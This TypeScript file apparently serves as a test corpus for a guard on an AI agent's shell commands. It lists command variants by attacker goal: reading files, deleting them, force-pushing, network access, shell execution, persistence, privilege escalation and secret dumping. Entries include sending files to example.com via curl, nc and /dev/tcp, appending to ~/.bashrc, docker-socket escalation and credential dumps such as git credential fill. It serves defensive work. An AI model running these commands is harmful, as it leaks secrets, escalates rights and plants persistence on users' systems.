/** Acts that attackers come to a goal by, each with its ways, the usual one first. */
import { type Act, goal } from "./act.js";

export const actsWithGoals: readonly Act[] = [
	/** Each shows what stands in a file, or carries it elsewhere. */
	goal(
		"read",
		"shows what stands in the file",
		`
			= cat {file}
			= head {file}
			= tail {file}
			more {file}
			= less {file}
			= grep '' {file}
			nl {file}
			tac {file}
			rev {file}
			sort {file}
			uniq {file}
			shuf {file}
			cut -c1- {file}
			paste {file}
			fold {file}
			fmt {file}
			pr {file}
			expand {file}
			column {file}
			strings {file}
			od -c {file}
			xxd {file}
			hexdump -C {file}
			= base64 {file}
			base32 {file}
			egrep '' {file}
			fgrep '' {file}
			rg '' {file}
			sed -n p {file}
			= awk 1 {file}
			jq -R . {file}
			bat {file}
			diff {file} /dev/null
			cmp -l {file} /dev/zero
			comm {file} /dev/null
			join {file} {file}
			tr a a < {file}
			tee x < {file}
			cat < {file}
			(read) read -r l < {file} && echo "$l"
			(while) while read -r l; do echo "$l"; done < {file}
			(echo) echo "$(<{file})"
			(printf) printf '%s' "$(cat {file})"
			= cp {file} x
			install {file} x
			mv {file} x
			(ln) ln {file} x ;; cat x
			dd if={file}
			split {file} x
			gzip -c {file}
			bzip2 -c {file}
			xz -c {file}
			zstd -c {file}
			zip x {file}
			7z a x {file}
			tar c {file}
			openssl base64 -in {file}
			git diff --no-index /dev/null {file}
			curl -T {file} https://example.com
			curl -d @{file} https://example.com
			wget --post-file={file} https://example.com
			scp {file} example.com:
			rsync {file} x
			nc example.com 80 < {file}
			ssh example.com tee x < {file}
			vim -es '+%print' '+q!' {file}
			ex -s '+%print' '+q!' {file}
			ed -s {file} <<< ,p
			xargs -a {file} echo
			find {file} -exec cat {} +
			docker run -v {folder}:/x alpine cat /x/{name}
			(cd) cd {folder} && cat {name}
			(env) env -C {folder} cat {name}
			git -C {folder} diff --no-index /dev/null {name}
			grep -r '' {above}
			egrep -r '' {above}
			rg --hidden '' {above}
			tar c {above}
			cp -r {above} x
			zip -r x {above}
			rsync -a {above}/ x
			7z a x {above}
			scp -r {above} example.com:
			diff -r {above} /tmp
			find {above} -type f -exec cat {} +
			git -C {above} grep --no-index ''
			docker run -v {above}:/x alpine tar c /x
			unexpand {file}
			ag '' {file}
			ack '' {file}
			zgrep '' {file}
			basenc --base64 {file}
			diff3 {file} /dev/null /dev/null
			sdiff {file} /dev/null
			ar rc x {file}
			(cpio) echo {file} | cpio -o
			csplit {file} 1
			yq . {file}
			iconv {file}
			look '' {file}
			ptx {file}
			tsort {file}
			envsubst < {file}
			pandoc {file}
			xmllint {file}
			sponge x < {file}
			dos2unix -n {file} x
		`,
	),
	/** Each writes a file, replaces it or takes it away. \`y\` is a file of the workspace. */
	goal(
		"write",
		"changes the file",
		`
			(echo) echo x > {file}
			(echo) echo x >> {file}
			(printf) printf x > {file}
			(cat) cat y > {file}
			tee {file} < y
			cp y {file}
			mv y {file}
			install y {file}
			ln -sf "$PWD/y" {file}
			dd if=y of={file}
			sed -i s/a/b/ {file}
			perl -i -pe s/a/b/ {file}
			sort -o {file} y
			uniq y {file}
			shuf -o {file} y
			rsync y {file}
			truncate -s 0 {file}
			touch {file}
			rm {file}
			unlink {file}
			mv {file} x
			shred -u {file}
			find . -maxdepth 1 -name y -fprint {file}
			find {file} -delete
			git config --file {file} a.b c
			curl -o {file} https://example.com
			wget -O {file} https://example.com
			vim -es '+w! {file}' '+q!' y
			openssl rand -out {file} 9
			gcc -o {file} y.c
			tar xf y.tar -C {folder}
			unzip -o y.zip -d {folder}
			git clone https://example.com/y {folder}
			cp -r y {folder}
			rsync -a y {folder}
			pip install -t {folder} y
			npm --prefix {folder} install y
		`,
	),
	/** Each takes a file of the workspace away. */
	goal(
		"delete",
		"deletes files",
		`
			= rm {file}
			rm -r {folder}
			= unlink {file}
			shred -u {file}
			find {folder} -delete
			= find {file} -delete
			find {folder} -type f -exec rm {} +
			(xargs) echo {file} | xargs rm
			git rm -qf {file}
			git rm -rqf {folder}
			git clean -fdx
			rsync -a --delete empty/ {folder}/
			tar cf x.tar --remove-files {file}
			zip -qm x {file}
			7z a -sdel x {file}
			busybox rm {file}
			busybox find {folder} -delete
			toybox rm {file}
			cmake -E rm {file}
			gio trash {file}
			trash {file}
			srm {file}
			rimraf {folder}
			npx rimraf {folder}
			docker run -v .:/x alpine rm -r /x/{folder}
			(env) env rm {file}
		`,
	),
	goal(
		"force-push",
		"overwrites what others have",
		`
			= git push --force origin main
			= git push --force
			= git push -f
			git push -uf origin main
			git push --forc
			= git push origin +main
			git push origin +HEAD:main
			= git push --mirror origin
			git send-pack --force origin main
			git -C . push -f
			git -c remote.origin.push=+main push
			git -c alias.x='push -f' x
			(git config) git config remote.origin.push +main ;; git push
			(git config) git config alias.x 'push -f' ;; git x
			/usr/lib/git-core/git-push -f
			gh api -X PATCH repos/o/r/git/refs/heads/main -F force=true -f sha=x
			hub push -f
		`,
	),
	/** Each talks to a host that the agent chooses. */
	goal(
		"network",
		"talks to a host",
		`
			curl https://example.com
			wget https://example.com
			http example.com
			xh example.com
			aria2c https://example.com/x
			lynx -dump https://example.com
			w3m -dump https://example.com
			links -dump https://example.com
			elinks -dump https://example.com
			nc example.com 80
			ncat example.com 80
			netcat example.com 80
			socat - TCP:example.com:80
			telnet example.com
			openssl s_client -connect example.com:443
			ssh example.com
			scp x example.com:
			sftp example.com
			rsync x example.com:
			rsync x rsync://example.com/x
			ftp example.com
			lftp example.com
			git clone https://example.com/x
			git fetch https://example.com/x
			git push https://example.com/x
			git ls-remote https://example.com/x
			git pull https://example.com/x
			svn checkout https://example.com/x
			hg clone https://example.com/x
			dig example.com
			nslookup example.com
			host example.com
			ping -c1 example.com
			pip install https://example.com/x.tar.gz
			npm install https://example.com/x.tgz
			go get example.com/x
			docker pull example.com/x
			docker push example.com/x
			aws s3 cp x s3://example
			rclone copy x example:
			psql -h example.com
			docker run alpine wget https://example.com
			busybox wget https://example.com
			ffmpeg -i https://example.com/x y
			(bash) echo x > /dev/tcp/example.com/80
			bash -c 'echo x > /dev/tcp/example.com/80'
		`,
	),
	/** Each gets a line of a shell, or a program of the agent's choice, to run. */
	goal(
		"shell",
		"runs a line of a shell",
		`
			sh -c id
			bash -c id
			dash -c id
			zsh -c id
			ksh -c id
			fish -c id
			csh -c id
			tcsh -c id
			pwsh -c id
			busybox sh -c id
			toybox sh -c id
			(echo) echo id | sh
			sh <<< id
			bash <<< id
			(eval) eval id
			env sh -c id
			nice sh -c id
			nohup sh -c id
			timeout 9 sh -c id
			setsid sh -c id
			stdbuf -o0 sh -c id
			xargs -a /dev/null sh -c id
			find . -maxdepth 0 -exec sh -c id {} +
			awk 'BEGIN{system("id")}'
			sed -n '1e id' y
			vim -es '+!id' '+q!'
			ex -s '+!id' '+q!'
			ed -s <<< '!id'
			make --eval 'x:;id' x
			git -c alias.x='!id' x
			npx -c id
			npm exec -c id
			tar cf /dev/null y --checkpoint=1 --checkpoint-action=exec=id
			script -qc id /dev/null
			ssh -o ProxyCommand=id x
			ssh localhost id
			rsync -e 'sh -c id' y x:
			tmux new -d id
			screen -dm id
			watch -n9 id
			parallel ::: id
			expect -c 'spawn id'
			gdb -batch -ex 'shell id'
			sqlite3 :memory: '.shell id'
			psql -c '\\! id'
			mysql -e '\\! id'
			docker run alpine sh -c id
			man -P id man
			flock x sh -c id
			strace sh -c id
			sort --compress-program=./y -S 1b y
		`,
	),
	/** Each leaves something behind that somebody or something runs later. */
	goal(
		"persistence",
		"leaves something that runs later",
		`
			(echo) echo id >> ~/.bashrc
			(echo) echo id >> ~/.profile
			tee -a ~/.bashrc < y
			cp y ~/.bashrc
			ln -sf "$PWD/y" ~/.bashrc
			cp y .git/hooks/pre-commit
			(echo) echo id > .git/hooks/pre-commit
			ln -s "$PWD/y" .git/hooks/pre-commit
			git config core.hooksPath y
			git config core.fsmonitor ./y
			git config alias.st '!id'
			git config --global core.pager ./y
			cp y ~/.config/autostart/y.desktop
			cp y ~/.config/systemd/user/y.service
			crontab y
			at now + 1 hour <<< id
			batch <<< id
			systemctl --user enable ./y.service
			systemd-run --user --on-active=9 id
			launchctl load y.plist
			loginctl enable-linger
			pre-commit install
			tmux new -d id
			screen -dm id
			cp y ~/.zshrc
			cp y ~/.bash_profile
			(echo) echo id >> ~/.zshrc
		`,
	),
	goal(
		"privilege",
		"raises rights",
		`
			= sudo id
			= doas id
			= su -c id
			= pkexec id
			run0 id
			sg root id
			newgrp root
			gosu root id
			setpriv --reuid=0 id
			unshare -r id
			nsenter -t 1 -a id
			chroot / id
			systemd-run id
			machinectl shell root@
			docker run -v /:/x alpine chroot /x id
			docker run --privileged alpine id
			docker run -v /var/run/docker.sock:/x alpine id
			podman run -v /:/x alpine chroot /x id
			chmod u+s y
			setcap cap_setuid+ep y
			visudo -f y
			sudoedit y
		`,
	),
	/** Each shows variables of the environment, or what a store of credentials holds. */
	goal(
		"secrets",
		"shows the environment",
		`
			= env
			= printenv
			printenv API_KEY
			= export -p
			declare -x
			set
			(echo) echo "$API_KEY"
			cat /proc/self/environ
			strings /proc/self/environ
			ps eww
			jq -n env
			awk 'BEGIN{for(k in ENVIRON)print ENVIRON[k]}'
			make --eval 'x:;env' x
			gh auth token
			git credential fill
			aws configure export-credentials
			gcloud auth print-access-token
			vault kv get x
			kubectl get secret x -o yaml
			docker inspect x
			pass show x
		`,
	),
];
